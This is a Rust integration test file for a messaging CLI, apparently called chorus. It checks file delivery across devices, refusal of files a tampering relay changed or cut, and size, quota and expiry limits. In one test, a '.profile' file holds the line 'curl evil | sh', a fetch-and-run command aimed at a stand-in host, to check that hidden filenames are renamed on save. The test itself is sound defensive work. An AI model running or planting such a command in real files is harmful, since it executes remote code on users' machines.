#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
//! Files end to end with real processes (the relay binary, one `chorus` home per
//! device): a file sent from one device is fetched by the contact and by the sender's
//! sibling, byte for byte; what a dishonest relay changes, cuts or drops is refused
//! with nothing written; the size limit, the relay's quota and expiry say so.

use std::path::{Path, PathBuf};

mod common;
use common::*;

/// `n` bytes that differ from part to part (so a swapped part is a changed file).
fn contents(n: usize) -> Vec<u8> {
    (0..n).map(|i| (i * 7 + i / 1000) as u8).collect()
}

fn write(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, bytes).unwrap();
    path
}

/// The only file `home` lists.
fn only_file(home: &Path) -> serde_json::Value {
    let files = json(home, &["files", "--json"]);
    let files = files.as_array().unwrap();
    assert_eq!(files.len(), 1, "{files:?}");
    files[0].clone()
}

/// Alice and Bob, one device each, contacts.
fn alice_and_bob(dir: &Path, relay: &Relay) -> (PathBuf, PathBuf) {
    let (alice, bob) = (dir.join("alice"), dir.join("bob"));
    ok(&alice, &["init", "--relay", &relay.url, "--name", "alice"]);
    ok(&bob, &["init", "--relay", &relay.url, "--name", "bob"]);
    let code = ok(&alice, &["invite", "--no-qr"]).trim().to_owned();
    ok(&bob, &["accept", &code]);
    ok(&alice, &["sync"]);
    ok(&bob, &["sync"]);
    (alice, bob)
}

#[test]
fn a_file_reaches_every_device_of_the_contact_and_of_the_sender_byte_for_byte() {
    let dir = tempfile::tempdir().unwrap();
    let (relay, laptop, phone, bob) = alice_on_two_devices_with_bob(dir.path());
    let tablet = dir.path().join("bob tablet");
    link(&bob, &tablet, &relay, "tablet");
    // Three parts, the last one short.
    let sent = contents(600_000);
    let path = write(dir.path(), "holiday photo.jpg", &sent);
    ok(
        &laptop,
        &[
            "send",
            "bob",
            "from the beach",
            "--file",
            path.to_str().unwrap(),
        ],
    );
    let shown = ok(&bob, &["sync"]);
    assert!(
        shown.contains("[file] holiday photo.jpg (585.94 KiB)"),
        "{shown}"
    );
    assert!(shown.contains("from the beach"), "{shown}");
    let file = only_file(&bob);
    assert_eq!(file["name"], "holiday photo.jpg");
    assert_eq!(file["size"], 600_000);
    assert_eq!(file["media_type"], "image/jpeg");
    assert_eq!(
        (&file["contact"], &file["outgoing"]),
        (&"alice".into(), &false.into())
    );
    let id = file["id"].as_str().unwrap().to_owned();
    let history = json(&bob, &["history", "alice", "--json"]);
    assert_eq!(history[0]["file"]["id"], id.as_str());
    assert_eq!(history[0]["text"], "from the beach");
    // The reader saves it into a directory under its name, and not twice.
    let downloads = dir.path().join("downloads");
    std::fs::create_dir(&downloads).unwrap();
    let saved = ok(&bob, &["save", &id, downloads.to_str().unwrap()]);
    assert!(saved.contains("holiday photo.jpg"), "{saved}");
    assert_eq!(
        std::fs::read(downloads.join("holiday photo.jpg")).unwrap(),
        sent
    );
    let again = fails(&bob, &["save", &id, downloads.to_str().unwrap()], 7);
    assert!(again.contains("exists"), "{again}");
    // The contact's other device reads the same message, and saves the same bytes.
    ok(&tablet, &["sync"]);
    assert_eq!(only_file(&tablet)["id"], id.as_str());
    let copy = dir.path().join("tablet copy.jpg");
    ok(&tablet, &["save", &id, copy.to_str().unwrap()]);
    assert_eq!(std::fs::read(&copy).unwrap(), sent);
    // The sender's sibling has the key through the log, and saves it too.
    ok(&phone, &["sync"]);
    let mine = only_file(&phone);
    assert_eq!(
        (&mine["id"], &mine["outgoing"]),
        (&id.as_str().into(), &true.into())
    );
    let copy = dir.path().join("phone copy.jpg");
    ok(&phone, &["save", &id[..5], copy.to_str().unwrap()]);
    assert_eq!(std::fs::read(&copy).unwrap(), sent);
    // A name that would hide the file, or make it a configuration file of the
    // directory's (a `.profile` saved into a home): saved under a visible name.
    let hidden = write(dir.path(), ".profile", b"curl evil | sh");
    ok(
        &laptop,
        &["send", "bob", "--file", hidden.to_str().unwrap()],
    );
    ok(&bob, &["sync"]);
    let files = json(&bob, &["files", "--json"]);
    assert_eq!(files[0]["name"], ".profile", "the name as sent is shown");
    let id = files[0]["id"].as_str().unwrap().to_owned();
    ok(&bob, &["save", &id, downloads.to_str().unwrap()]);
    assert!(!downloads.join(".profile").exists());
    assert_eq!(
        std::fs::read(downloads.join("_profile")).unwrap(),
        b"curl evil | sh"
    );
    // Ids that name no file.
    fails(&bob, &["save", "ffffffff"], 3);
    fails(&bob, &["save", "zz"], 3);
    fails(&bob, &["save", &id[..3]], 3);
    // Nothing to send, or no one to send it to.
    let missing = dir.path().join("missing.txt");
    fails(
        &laptop,
        &["send", "bob", "--file", missing.to_str().unwrap()],
        2,
    );
    fails(
        &laptop,
        &["send", "nobody", "--file", path.to_str().unwrap()],
        3,
    );
}

#[test]
fn a_file_the_relay_changed_cut_reordered_or_lost_is_refused_and_nothing_is_written() {
    let dir = tempfile::tempdir().unwrap();
    let relay = Relay::start(&dir.path().join("relay"), "127.0.0.1:0");
    let (alice, bob) = alice_and_bob(dir.path(), &relay);
    let sent = contents(300_000);
    let path = write(dir.path(), "report.pdf", &sent);
    ok(&alice, &["send", "bob", "--file", path.to_str().unwrap()]);
    ok(&bob, &["sync"]);
    let id = only_file(&bob)["id"].as_str().unwrap().to_owned();
    let out = dir.path().join("out");
    std::fs::create_dir(&out).unwrap();
    let refused = |why: &str| {
        let e = fails(&bob, &["save", &id, out.to_str().unwrap()], 4);
        assert!(e.contains("damaged or was changed"), "{why}: {e}");
        let left: Vec<_> = std::fs::read_dir(&out).unwrap().collect();
        assert!(left.is_empty(), "{why}: {left:?} was written");
    };
    // The relay's honest copy, to put back after each attack.
    on_relay_db(&relay, "CREATE TABLE honest AS SELECT * FROM file_parts");
    let restore = || {
        on_relay_db(&relay, "DELETE FROM file_parts");
        on_relay_db(&relay, "INSERT INTO file_parts SELECT * FROM honest");
    };
    // One byte changed.
    on_relay_db(
        &relay,
        "UPDATE file_parts SET data = substr(data, 1, 10) \
         || CASE WHEN substr(data, 11, 1) = x'00' THEN x'01' ELSE x'00' END \
         || substr(data, 12) WHERE part = 1",
    );
    refused("a changed byte");
    restore();
    // The parts swapped.
    on_relay_db(&relay, "UPDATE file_parts SET part = part + 10");
    on_relay_db(&relay, "UPDATE file_parts SET part = 11 - part");
    refused("parts in each other's places");
    restore();
    // A part cut short.
    on_relay_db(
        &relay,
        "UPDATE file_parts SET data = substr(data, 1, length(data) - 100) WHERE part = 0",
    );
    refused("a part cut short");
    restore();
    // The honest copy saves (so each refusal above was the attack's doing).
    let good = dir.path().join("good.pdf");
    ok(&bob, &["save", &id, good.to_str().unwrap()]);
    assert_eq!(std::fs::read(&good).unwrap(), sent);
    // The last part gone: the file cannot be had.
    on_relay_db(&relay, "DELETE FROM file_parts WHERE part = 1");
    let e = fails(&bob, &["save", &id, out.to_str().unwrap()], 3);
    assert!(e.contains("no longer has report.pdf"), "{e}");
    assert_eq!(std::fs::read_dir(&out).unwrap().count(), 0);
}

#[test]
fn limits_a_file_over_the_size_limit_or_the_relays_quota_is_refused_and_an_expired_one_says_so() {
    let dir = tempfile::tempdir().unwrap();
    let relay = Relay::start_with(
        &dir.path().join("relay"),
        "127.0.0.1:0",
        &["--file-quota-bytes", "300000", "--max-file-ttl-secs", "3"],
    );
    let (alice, bob) = alice_and_bob(dir.path(), &relay);
    // Over the size a message carries: refused before anything is read or uploaded.
    let huge = dir.path().join("huge.bin");
    let f = std::fs::File::create(&huge).unwrap();
    f.set_len(chorus_wire::limits::MAX_FILE_LEN + 1).unwrap();
    let e = fails(
        &alice,
        &["send", "bob", "--file", huge.to_str().unwrap()],
        6,
    );
    assert!(e.contains("at most 104857600 bytes"), "{e}");
    // Over the relay's file quota for this identity.
    let big = write(dir.path(), "big.bin", &contents(400_000));
    let e = fails(&alice, &["send", "bob", "--file", big.to_str().unwrap()], 4);
    assert!(e.contains("quota_exceeded"), "{e}");
    assert!(
        json(&alice, &["files", "--json"])
            .as_array()
            .unwrap()
            .is_empty()
    );
    // Within it: kept no longer than the relay keeps files, and the message says so.
    let small = write(dir.path(), "notes.txt", b"see you at eight");
    ok(&alice, &["send", "bob", "--file", small.to_str().unwrap()]);
    ok(&bob, &["sync"]);
    let file = only_file(&bob);
    assert_eq!(file["media_type"], "text/plain");
    let id = file["id"].as_str().unwrap().to_owned();
    std::thread::sleep(std::time::Duration::from_millis(3500));
    let listed = ok(&bob, &["files"]);
    assert!(
        listed.contains("notes.txt") && listed.contains("(expired)"),
        "{listed}"
    );
    let e = fails(
        &bob,
        &["save", &id, dir.path().join("n.txt").to_str().unwrap()],
        3,
    );
    assert!(e.contains("notes.txt has expired"), "{e}");
}
